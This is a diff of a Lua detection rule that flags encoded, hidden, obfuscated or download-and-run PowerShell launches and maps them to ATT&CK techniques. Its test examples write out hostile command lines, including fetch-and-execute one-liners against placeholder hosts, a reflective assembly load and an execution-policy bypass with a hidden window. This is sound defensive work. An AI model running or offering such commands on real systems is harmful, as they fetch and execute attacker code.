@@ -1,142 +1,110 @@
--- PowerShell that hides its window or what it runs.
+-- PowerShell that hides its window or what it runs, or runs what comes from elsewhere.
 
 local command = require "kaiseki.detect.command"
 local lineage = require "kaiseki.detect.lineage"
-local places = require "kaiseki.detect.places"
+local powershell = require "kaiseki.detect.powershell"
+local say = require "kaiseki.detect.say"
+local tools = require "kaiseki.detect.tools"
 local trusted = require "kaiseki.detect.trusted"
 
--- How management agents get a script past quoting; of the sample's tree it is another matter.
-local ENCODED = "an encoded command"
-local SCRIPT = "a script from a user's folder"
-local DISGUISED, HIDDEN = "a disguised command", "a command without a window"
-local SUBJECTS = {
-    [DISGUISED] = "disguised-command", [HIDDEN] = "windowless-command",
-    [ENCODED] = "encoded-command", [SCRIPT] = "user-script", ["what it downloads"] = "downloaded-commands",
-    ["a hidden command"] = "hidden-command", ["a download"] = "download",
+-- What installed programs, their agents and administrators have PowerShell do, too.
+local ORDINARY = {
+    ["encoded-command"] = true, ["user-script"] = true, ["windowless-command"] = true, ["piped-commands"] = true,
+    ["old-version"] = true, download = true,
 }
 
-local DOWNLOADS = {
-    "downloadstring", "downloadfile", "downloaddata", "invoke-webrequest", "iwr ", "start-bitstransfer", "webclient",
-    "invoke-restmethod", "irm ",
+-- What weighs less than the rule: agents and setup programs, too, let nobody see their windows.
+local LESS = { ["windowless-command"] = "medium", ["old-version"] = "medium" }
+
+-- Besides PowerShell itself.
+local TECHNIQUES = {
+    ["encoded-command"] = "T1027.010", ["disguised-command"] = "T1027.010", ["loaded-code"] = "T1620",
+    ["scanner-off"] = "T1685", ["old-version"] = "T1689", download = "T1105", ["downloaded-commands"] = "T1105",
+    ["windowless-command"] = "T1564.003",
 }
-local RUNS = { "iex ", "iex(", "invoke-expression", "|iex", "| iex", "frombase64string", "reflection.assembly]::load" }
 
-local function holds(text, words)
-    for _, word in ipairs(words) do
-        if text:find(word, 1, true) then return true end
-    end
-    return false
+-- "| powershell", with or without a dash behind it.
+local function is_fed(line)
+    return line:find "|%s*\"?[%w:\\. ]-powershell" ~= nil or line:find "|%s*pwsh" ~= nil
 end
 
--- PowerShell takes any beginning of an option's name.
-local function option_begins(each, name, shortest)
-    for i = 2, #each.words do
-        local option = each.words[i]:lower():match "^[/-](%a+)$"
-        if option and #option >= shortest and name:sub(1, #option) == option then return each.words[i + 1] or "" end
-    end
-    return nil
+local function is_cut_by_carets(line) return select(2, line:gsub("%a%^%a", "")) >= 2 end
+
+local function subject_of(line, case)
+    local found = command.first(line, function(each)
+        local subject = powershell.subject(each, case)
+        return subject and { subject = subject, each = each }
+    end)
+    local runs = found or command.first(line, function(each) return powershell.is(each) and { each = each } end)
+    if not runs then return nil end
+    local weak = not found or LESS[found.subject] or found.subject == "piped-commands"
+    if weak and is_cut_by_carets(line) then return { subject = "disguised-command", each = runs.each } end
+    if weak and is_fed(line:lower()) then return { subject = "piped-commands", each = runs.each, shown = true } end
+    return found
 end
 
-local function is_encoded(each)
-    local value = option_begins(each, "encodedcommand", 1) or option_begins(each, "ec", 2)
-    return value ~= nil and #value >= 16 and value:find "^[%w+/=]+$" ~= nil
-end
-
-local function is_hidden(each)
-    local value = option_begins(each, "windowstyle", 1)
-    return value ~= nil and (value:lower():find "^h" ~= nil or value == "1")
-end
-
--- Words turned around and put together when they run ('daoL'[-1..-4] -join ''), made of numbers, cut by backticks or
--- put in order by numbers: nobody writes so but to be found by no one.
-local function is_disguised(text)
-    local turned = text:find "%[%s*%-1%s*%.%.%s*%-" ~= nil
-    local numbers = text:find("[char]", 1, true) ~= nil and select(2, text:gsub("%[char%]%s*%(?%d", "")) >= 4
-    local ordered = text:find "{%d+}{%d+}{%d+}[^|;]-%-f%f[%A]" ~= nil
-    local cut = select(2, text:gsub("%a`%a", "")) >= 4
-    return turned or numbers or ordered or cut or text:find("-bxor", 1, true) ~= nil
-end
-
--- Whether the policy on scripts is set aside.
-local function is_unrestricted(each)
-    local value = option_begins(each, "executionpolicy", 2) or option_begins(each, "ep", 2)
-    return value ~= nil and (value:lower() == "bypass" or value:lower() == "unrestricted")
-end
-
--- Whether the command is in the line itself, not in a script's file.
-local function is_inline(each)
-    return option_begins(each, "file", 1) == nil and each.folded:find "%.ps1%f[%W]" == nil
-end
-
--- A script of a user's place or another drive, given with -File or first.
-local function script_of(each, case)
-    for i = 2, #each.words do
-        local word = places.backslashed(each.words[i]):gsub("^[&%s']+", "")
-        if places.extension(word) == "ps1" then
-            return (places.in_user_place(word, case) or places.on_other_drive(word, case)) and word or nil
-        end
-    end
-    return nil
-end
-
-local function suspicion(each, case)
-    if each.program ~= "powershell" and each.program ~= "pwsh" then return nil end
-    if is_encoded(each) then return ENCODED end
-    local runs, downloads = holds(each.folded, RUNS), holds(each.folded, DOWNLOADS)
-    if runs and downloads then return "what it downloads" end
-    local decodes = each.folded:find("frombase64string", 1, true) or each.folded:find("getstring(", 1, true)
-    if decodes and (each.folded:find "iex%f[%W]" or each.folded:find("invoke-expression", 1, true)
-        or each.folded:find("reflection.assembly", 1, true)) then
-        return ENCODED
-    end
-    if is_hidden(each) and (runs or downloads) then return "a hidden command" end
-    if is_disguised(each.folded) then return DISGUISED end
-    if downloads and places.has_url(each.folded) and places.in_user_place(each.text, case) then
-        return "a download"
-    end
-    if is_hidden(each) and is_inline(each) and (is_unrestricted(each) or places.in_user_place(each.text, case)) then
-        return HIDDEN
-    end
-    return script_of(each, case) and SCRIPT or nil
+-- The beginning of what an encoded command says.
+local function decoded_text(line)
+    return command.first(powershell.plain(line), function(each)
+        local text = powershell.is(each) and powershell.encoded(each)
+        local decoded = text and command.decoded(text)
+        return decoded and decoded:find "^[%g%s]+$" and say.command(decoded:gsub("%s+", " "), 120) or nil
+    end)
 end
 
 -- Installed programs and their agents work so, and so do administrators from afar.
 local function excuse(finding, case)
     local process, what = finding.process, finding.key
-    if what ~= ENCODED and what ~= SCRIPT and what ~= HIDDEN then return nil end
-    for _, event in ipairs(finding.events) do
-        local child = lineage.started(event)
-        if child and child.in_tree then return nil end
-    end
+    if not ORDINARY[what] or tools.in_tree(finding) then return nil end
     if trusted.is_bystander(case, process) then return "low" end
-    local by_hand = what == SCRIPT or trusted.is_remote_management(process)
-    return by_hand and not lineage.in_tree(process) and "medium" or nil
+    if what == "windowless-command" or what == "old-version" then return "low" end
+    local by_hand = what == "user-script" or what == "download" or trusted.is_remote_management(process)
+    return by_hand and "medium" or nil
+end
+
+local function example(line)
+    return { operation = "Process Create", path = [[C:\Windows\System32\cmd.exe]], ["process.name"] = "a.exe",
+             ["child.command_line"] = line }
 end
 
 rule {
     id = "execution.powershell",
     title = "Encoded, hidden or downloaded PowerShell",
     severity = "high",
-    attack = { "T1059.001" },
-    description = "PowerShell is given an encoded command, downloads and runs text without a window, or runs a script "
-        .. "that lies where users put files.",
+    attack = { "T1059.001", "T1027.010", "T1620", "T1685", "T1689", "T1105", "T1564.003" },
+    description = "PowerShell is given an encoded or disguised command, runs what it downloads, reads from a file or "
+        .. "is handed by another program, loads code from memory, or runs a script that lies where users put files.",
     references = { "https://attack.mitre.org/techniques/T1059/001/" },
     false_positives = { "Management agents encode commands to get them past quoting; package managers install so." },
     author = "kaiseki",
-    match = operation:is "Process Create" & child.command_line:contains { "powershell", "pwsh", "^" },
+    match = operation:is "Process Create"
+        & child.command_line:contains { "powershell", "pwsh", "sqlps", "^", " -e", " /e", " -w", " -nop" },
     on_event = function(event, case)
-        local what = command.first(event.child.command_line, function(each) return suspicion(each, case) end)
-        if not what then return end
-        -- Agents and setup programs, too, let nobody see their windows.
-        case:finding { process = lineage.requester(event.process), key = what, event = event,
-                       severity = what == HIDDEN and "medium" or nil }
+        local found = subject_of(powershell.plain(event.child.command_line), case)
+        if not found then return end
+        local what, process = found.subject, lineage.requester(event.process)
+        local severity = LESS[what] or (what == "piped-commands" and not found.shown and "medium") or nil
+        case:finding { process = process, key = what, event = event, technique = "T1059.001", severity = severity }
+        if TECHNIQUES[what] then
+            case:finding { process = process, key = what, technique = TECHNIQUES[what], severity = severity }
+        end
     end,
     excuse = excuse,
     finding = function(finding)
-        return { "run-powershell", subject = SUBJECTS[finding.key], command = finding.events[1].child.command_line }
+        local line = finding.events[1].child.command_line
+        return { "run-powershell", subject = finding.key, command = line,
+                 text = finding.key == "encoded-command" and decoded_text(line) or nil }
     end,
     examples = {
         match = {
+            example "cmd /c po^wer^shell -w h", example "powershell.exe -wi h -c calc",
+            example "cmd.exe /c echo iex(gc x.txt)|powershell -", example "pOWeRsHeLl -c Get-Date",
+            example "powershell -c \"$a='i'+'ex';& $a (gc C:\\Users\\Public\\a.txt -raw)\"",
+            example "powershell -c \"[Reflection.Assembly]::Load([IO.File]::ReadAllBytes('a.dat'))\"",
+            example "powershell -c \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.5/a.exe','a.exe')\"",
+            example "conhost.exe --headless powershell -w h -c \"irm x.example|iex\"",
+            example "a.pif -nop -w hidden -c calc", example "powershell -ec JABhAD0AMQA7AA==",
+            example "powershell \xE2\x80\x93ep bypass \xE2\x80\x93w hidden \xE2\x80\x93c \"iex(iwr x.example/a)\"",
             { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
               ["process.name"] = "a.exe",
               ["child.command_line"] =
@@ -159,6 +127,8 @@ rule {
                   [[cmd /c powershell "IEX (New-Object Net.WebClient).DownloadString('http://x')"]] },
         },
         no_match = {
+            example "powershell -NoProfile -Command \"Get-Content 'C:\\Program Files\\a\\a.json' | ConvertFrom-Json\"",
+            example "powershell -Version 5.1 -Command Get-Process",
             { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
               ["process.name"] = "agent.exe",
               ["child.command_line"] =
